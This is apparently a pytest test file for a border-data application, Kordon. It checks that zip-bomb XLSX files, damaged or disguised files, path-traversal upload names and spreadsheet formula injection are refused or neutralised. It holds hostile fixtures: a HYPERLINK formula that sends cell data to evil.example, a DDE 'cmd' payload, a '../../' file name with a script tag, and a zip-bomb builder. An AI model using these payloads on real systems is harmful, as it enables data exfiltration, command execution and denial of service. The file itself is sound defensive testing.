"""Files built to harm or simply broken: an XLSX that unpacks to gigabytes, a truncated XLSX, a
picture renamed .csv, Excel's UTF-16 "Unicode text", and cells that a spreadsheet would run as
formulas when an analyst opens what Kordon gives back. Each is refused with advice and nothing
written, or read correctly, and nothing that leaves Kordon for a spreadsheet can run."""

import csv
import io
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from kordon.core.downloads import neutralise, table_download
from kordon.core.tabular import TableError, open_table
from kordon.entities import screening
from kordon.entities.tests.test_watchlists import import_couriers, write
from kordon.exchange.services import attachment_add
from kordon.exchange.tests.test_exchange import mou, send_truck_alert  # noqa: F401  (mou is a fixture)
from kordon.seizures.importing import import_seizures
from kordon.seizures.models import Seizure, SeizureImport
from kordon.seizures.tests.files import TEMPLATE, row, write_csv, write_xlsx

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def run_import(world: Any, path: Path) -> Any:
    return import_seizures(
        actor=world.user("kg.analyst"),
        unit=world.unit("kg-dcs-analysis"),
        path=path,
        file_name=path.name,
        commit=True,
    )


def zip_bomb(path: Path, unpacked_mb: int = 300) -> Path:
    """A valid-looking XLSX whose sheet is hundreds of MB of one repeated byte (a few hundred KB packed)."""
    write_xlsx(path, [TEMPLATE, row("BOMB-1")])
    with (
        zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED) as archive,
        archive.open("xl/worksheets/padding.xml", "w", force_zip64=True) as part,
    ):
        block = b" " * (1024 * 1024)
        for _megabyte in range(unpacked_mb):
            part.write(block)
    return path


def test_an_xlsx_that_unpacks_to_gigabytes_is_refused_before_it_is_read(world: Any, tmp_path: Path) -> None:
    bomb = zip_bomb(tmp_path / "seizures.xlsx")
    assert bomb.stat().st_size < 2 * 1024 * 1024
    started = time.perf_counter()
    result = run_import(world, bomb)
    assert time.perf_counter() - started < 10  # refused from the directory, not after unpacking
    assert result.batch.status == SeizureImport.Status.FAILED
    assert "unpack to 300 MB" in result.batch.message and "was not read" in result.batch.message
    assert not Seizure.objects.filter(reference="BOMB-1").exists()


def test_a_cut_xlsx_and_a_picture_renamed_csv_are_refused_with_advice(tmp_path: Path) -> None:
    whole = write_xlsx(tmp_path / "whole.xlsx", [TEMPLATE, row("CUT-1")])
    cut = tmp_path / "cut.xlsx"
    cut.write_bytes(whole.read_bytes()[: whole.stat().st_size // 2])
    with pytest.raises(TableError, match="damaged"), open_table(cut):
        pass
    picture = tmp_path / "seizures.csv"
    picture.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8)
    with pytest.raises(TableError, match="not a CSV or XLSX file"), open_table(picture):
        pass


def test_excel_unicode_text_utf16_with_tabs_imports(world: Any, tmp_path: Path) -> None:
    path = write_csv(
        tmp_path / "unicode.txt",
        [TEMPLATE, row("UTF16-1", concealment="тайник в бензобаке"), row("UTF16-2")],
        encoding="utf-16",
        delimiter="\t",
    )
    result = run_import(world, path)
    assert result.batch.status == SeizureImport.Status.IMPORTED, result.problems
    assert result.batch.encoding == "utf-16" and result.batch.new_seizures == 2
    assert Seizure.objects.get(reference="UTF16-1").concealment_details == "тайник в бензобаке"


def test_formulas_are_kept_as_typed_and_leave_only_as_text(world: Any, tmp_path: Path) -> None:
    path = write_csv(
        tmp_path / "f.csv", [TEMPLATE, *(row(f"F-{n}", notes=text) for n, text in enumerate(FORMULAS))]
    )
    assert run_import(world, path).batch.new_seizures == len(FORMULAS)
    # Nothing is lost on the way in: the record keeps exactly what the file said.
    assert sorted(
        Seizure.objects.filter(reference__startswith="F-").values_list("narrative", flat=True)
    ) == sorted(FORMULAS)
    # Every table Kordon hands out neutralises every text cell, header included.
    response = table_download([FORMULAS[0]], [[text] for text in FORMULAS], "xlsx", "t")
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    assert all(cell.data_type != "f" for row_cells in sheet.iter_rows() for cell in row_cells)
    assert [cell.value for cell in sheet["A"]] == ["'" + FORMULAS[0], *("'" + text for text in FORMULAS)]
    text = table_download(["h"], [[text] for text in FORMULAS], "csv", "t").content.decode("utf-8-sig")
    assert [line[0] for line in csv.reader(io.StringIO(text))][1:] == ["'" + text for text in FORMULAS]
    assert neutralise(42) == 42 and neutralise("Достук") == "Достук"


def test_a_screened_file_gives_back_travellers_names_as_text(world: Any, tmp_path: Path) -> None:
    import_couriers(world, tmp_path)
    travellers = write(tmp_path, 'name,birth_date\n"=HYPERLINK(""http://evil.example"")",1980\n', "bus.csv")
    out = tmp_path / "screened.csv"
    screening.screen_file(actor=world.user("kg.blo.dostuk"), path=travellers, out=out, workers=1)
    screened = list(csv.DictReader(out.read_text(encoding="utf-8").splitlines()))
    assert screened[0]["name"] == '\'=HYPERLINK("http://evil.example")'


@pytest.mark.usefixtures("mou")
def test_an_uploaded_document_with_a_hostile_name_is_stored_and_served_safely(world: Any) -> None:
    """Path traversal in the name, HTML inside: stored under a name of Kordon's choosing and only
    ever downloaded, never shown inline (where its script could run on the node's origin)."""
    alert = send_truck_alert(world)
    attachment_add(
        actor=world.user("kg.blo.dostuk"),
        upload=SimpleUploadedFile(
            "../../settings.py<script>.html", b"<script>alert(1)</script>", "text/html"
        ),
        alert_id=alert.pk,
    )
    stored = alert.attachments.get()
    assert ".." not in stored.file.name and "<" not in stored.file.name
    assert Path(stored.file.path).resolve().is_relative_to(Path(settings.MEDIA_ROOT).resolve())
    served = world.client("kg.blo.dostuk").get(f"/exchange/files/{stored.token}/")
    assert served["Content-Disposition"].startswith("attachment")
    assert served["Content-Disposition"].endswith(
        'filename="settings.py<script>.html"'
    )  # no folders, one header
    assert served["X-Content-Type-Options"] == "nosniff"
    assert b"".join(served.streaming_content) == b"<script>alert(1)</script>"  # kept as sent, not run
